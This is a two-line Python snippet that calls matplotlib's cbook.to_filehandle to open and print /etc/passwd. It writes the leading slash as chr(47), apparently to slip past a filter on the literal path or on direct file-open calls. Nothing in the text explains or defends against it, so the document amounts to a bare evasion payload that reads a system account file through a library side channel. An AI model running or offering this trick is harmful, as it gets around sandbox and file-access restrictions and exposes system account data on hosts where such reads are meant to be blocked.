from matplotlib import cbook
print(cbook.to_filehandle(chr(47) + "etc/passwd").read())
